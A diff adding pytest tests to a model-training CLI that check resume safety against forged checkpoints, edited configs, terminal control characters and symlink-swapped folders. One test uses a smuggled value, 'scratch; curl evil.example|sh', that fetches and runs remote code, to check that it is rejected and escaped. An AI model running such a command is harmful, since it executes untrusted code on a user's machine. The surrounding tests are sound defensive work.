@@ -17,7 +17,7 @@ from gluon_mgpu import concise, scratch
 from gluon_mgpu.base.program import JobError
 from gluon_mgpu.checkpoints import callback, checkpoint
 from gluon_mgpu.checkpoints.callback import CheckpointCallback
-from gluon_mgpu.checkpoints.run_folder import checkpoints
+from gluon_mgpu.checkpoints.run_folder import checkpoints, lock_folder
 from gluon_mgpu.data.batches import BatchIterator
 from gluon_mgpu.mxnet_setup.compat import gluon, np
 from gluon_mgpu.networks.loss import cross_entropy
@@ -356,10 +356,10 @@ def contents(folder):
     return {path: path.read_bytes() for path in folder.iterdir()}
 
 
-def error_of(program, *flags):
+def error_of(program, *flags, chapter=scratch):
     """Check that a command fails and changes nothing; return its error message."""
     before = contents(program.out)
-    status, _, err = program(*flags)
+    status, _, err = program(*flags, chapter=chapter)
     assert status == 2 and contents(program.out) == before
     line, = err.splitlines()
     return line
@@ -669,3 +669,161 @@ def test_a_run_on_another_machine(tmp_path, auto):
     folder.mkdir()
     (folder / 'config.json').touch()
     check_on_rank_0(*where, TwoWorkers(False))  # only rank 0 needs it
+
+
+@pytest.mark.parametrize('change', [
+    {'seed': 1}, {'batch_size': 32}, {'dataset': 'glyphs'}, {'label_smoothing': 0.1}, {'train_digest': None},
+    {'train_digest': 'a'}, {'test_digest': None, 'test_size': 8}, {'train_digest': None, 'train_size': 48}])
+def test_an_edited_configuration_does_not_make_it_another_run(change, program):
+    """The checkpoint says which run it is, also at the end of an epoch."""
+    program.start('--num-epochs', 1)
+    config = {**program.config(), **change}
+    config = {key: value for key, value in config.items() if value is not None}
+    (program.out / 'config.json').write_text(json.dumps(config))
+    line = error_of(program, '--resume', program.out, '--num-epochs', 2)
+    name = next(iter(change))
+    assert line.startswith(f'scratch: {name} is {change[name]!r} in config.json and ')
+    assert line.endswith(f' in {checkpoints(program.out)[0]}: restore config.json, or start a new run')
+
+
+def forge(path, run=None, **config):
+    """Write a checkpoint with some entries of its metadata replaced, and a valid checksum."""
+    record, arrays = checkpoint.read(path)
+    metadata = record.pop('metadata')
+    metadata = {**metadata, 'config': {**metadata['config'], **config}, 'run': {**metadata['run'], **(run or {})}}
+    checkpoint.write(path, checkpoint.Snapshot(arrays, record), metadata)
+
+
+@pytest.mark.parametrize('change, words', [
+    ({'num_steps': 10**13}, 'num_steps, num_batches, epoch_length or rows of its state is missing or malformed'),
+    ({'num_steps': 5}, 'with another number of batches than 4'), ({'history': []}, 'with another number of batches'),
+    ({'epoch_length': 3}, 'with another number of batches than 4'), ({'history': 1}, 'its history is not a list')])
+def test_a_forged_checkpoint_is_not_resumed(change, words, program):
+    """It is named, and nothing is written; `num_steps` of 10**13 would take years."""
+    program.start('--num-epochs', 1)
+    path, = checkpoints(program.out)
+    forge(path, change)
+    forged = path.rename(path.with_name(f'checkpoint-{change.get("num_steps", 4):08}.safetensors'))
+    line = error_of(program, '--resume', program.out, '--num-epochs', 2)
+    assert line.startswith(f'scratch: {forged} is ') and words in line
+
+
+def test_predict_and_export_refuse_forged_checkpoints(program):
+    program.start('--num-epochs', 1)
+    path, = checkpoints(program.out)
+    for change in ({'devices': None}, {'num_epochs': 'x'}, {'run': {'loss': None}}, {'dataset': []}):
+        before = path.read_bytes()
+        forge(path, **change)
+        for chapter in (predict, export):
+            assert f'{path}: must be from a run of scratch or concise; ' in error_of(program, path, chapter=chapter)
+        path.write_bytes(before)
+
+
+def test_a_chapter_that_is_not_known_is_not_printed_as_a_command(program):
+    program.start('--num-epochs', 1)
+    evil = 'scratch; curl evil.example|sh #\x1b]0;x\x07'
+    (program.out / 'config.json').write_text(json.dumps({**program.config(), 'chapter': evil}))
+    forge(checkpoints(program.out)[0], chapter=evil)
+    line = error_of(program, '--resume', program.out)
+    assert line == f'scratch: {program.out} is a run of {evil!r}: must be of scratch or concise'
+
+
+def test_control_characters_in_the_files_of_a_run(program, tmp_path):
+    """From config.json and names of folders, in messages and among the changes."""
+    program.out = tmp_path / 'a\x1b[31mb'
+    program.start('--num-epochs', 1)
+    config = {**program.config(), 'platform': '\x1b]0;title\x07', 'numpy': '\x9b31m', 'data_dir': '\x1b[2J'}
+    config['process'] = {**config['process'], 'host': '\x1b[5m', 'since': '\x07'}
+    (program.out / 'config.json').write_text(json.dumps(config))
+    printed = [*program('--resume', program.out), *program('--resume', program.out, '--data-dir', 'data'),
+               *program(program.out, chapter=predict), *program(program.out, chapter=export)]
+    with contextlib.ExitStack() as stack:
+        lock_folder(program.out, stack)
+        (program.out / 'config.json').write_text(json.dumps(config))
+        printed += program('--resume', program.out)
+    text = ''.join(map(str, printed))
+    assert not re.search('[\x00-\x09\x0b-\x1f\x7f-\x9f]', text)
+    for name in (r'a\x1b[31mb', r'\x1b]0;title\x07 ', r'\x9b31m', r'\x1b[2J', r'\x1b[5m'):
+        assert name.strip() in text, name
+
+
+def test_a_private_run_stays_private(program):
+    program.start('--num-epochs', 1)
+    for path in program.out.iterdir():
+        path.chmod(0o600)
+    assert program('--resume', program.out, '--num-epochs', 2)[0] == 0
+    for name in ('config.json', 'history.csv'):
+        assert (program.out / name).stat().st_mode & 0o777 == 0o600
+
+
+class ReplaceByLink(Callback):
+    """Callback that replaces the folder of a run by a link to another folder after the first epoch."""
+
+    def __init__(self, folder, other):
+        self.folder, self.other = folder, other
+
+    def epoch_end(self, run):
+        if not self.folder.is_symlink():
+            self.folder.rename(f'{self.folder}-moved')
+            self.folder.symlink_to(self.other)
+
+
+def test_nothing_is_written_into_a_folder_that_has_replaced_that_of_the_run(program, tmp_path):
+    """Neither checkpoints, nor the model of --export."""
+    other = tmp_path / 'other'
+    other.mkdir()
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr('gluon_mgpu.settings.cli.Job._callbacks', lambda job: [ReplaceByLink(program.out, other)])
+        status, _, err = program.start('--num-epochs', 2, '--keep-best', '--export', program.out / 'a.onnx')
+    assert status == 2 and [*other.iterdir()] == []
+    problem = 'it was replaced by another folder'
+    assert err.splitlines()[-1].startswith(f'scratch: cannot write {program.out}/a.onnx ({problem})')
+
+
+@pytest.mark.parametrize('resumed', [True, False])
+def test_a_folder_that_is_replaced_right_after_it_was_locked(resumed, program, tmp_path):
+    other = tmp_path / 'other'
+    other.mkdir()
+    if resumed:
+        program.start('--num-epochs', 1)
+
+    def lock_and_replace(folder, stack):
+        locked = lock_folder(folder, stack)
+        ReplaceByLink(program.out, other).epoch_end(None)
+        return locked
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr('gluon_mgpu.checkpoints.run_folder.lock_folder', lock_and_replace)
+        flags = ['--resume', program.out] if resumed else []
+        assert (program(*flags) if resumed else program.start('--num-epochs', 1))[0] == 2
+    assert [*other.iterdir()] == []
+
+
+def test_the_folder_of_the_model_vanishes_in_training(program, tmp_path):
+    class Vanish(Callback):
+        def epoch_trained(self, run):
+            (tmp_path / 'models').rmdir()
+
+    (tmp_path / 'models').mkdir()
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr('gluon_mgpu.settings.cli.Job._callbacks', lambda job: [Vanish()])
+        status, _, err = program.start('--num-epochs', 1, '--export', 'models/a.onnx')
+    assert (status, err) == (2, 'scratch: cannot write models/a.onnx (No such file or directory); the run is complete; '
+                             f'export it with: python -m gluon_mgpu export {checkpoints(program.out)[0]} --out '
+                             'models/a.onnx\n')
+
+
+def test_a_checkpoint_that_is_one_step_newer_is_noticed(program):
+    program.start('--num-epochs', 1, '--checkpoint-every', 1)
+    newer, older = checkpoints(program.out)
+    assert f'{newer.name} is newer and would be lost' in error_of(program, '--resume', older)
+
+
+def test_a_model_in_a_folder_with_a_longer_name_is_elsewhere(program, tmp_path):
+    model = tmp_path / 'run-models/a.onnx'
+    model.parent.mkdir()
+    program.start('--num-epochs', 1, '--export', model)
+    before = model.read_bytes()
+    status, _, err = program('--resume', program.out, '--num-epochs', 2)
+    assert (status, model.read_bytes()) == (0, before) and 'the model will not be exported to ' in err
+    assert not (program.out / 'a.onnx').exists()
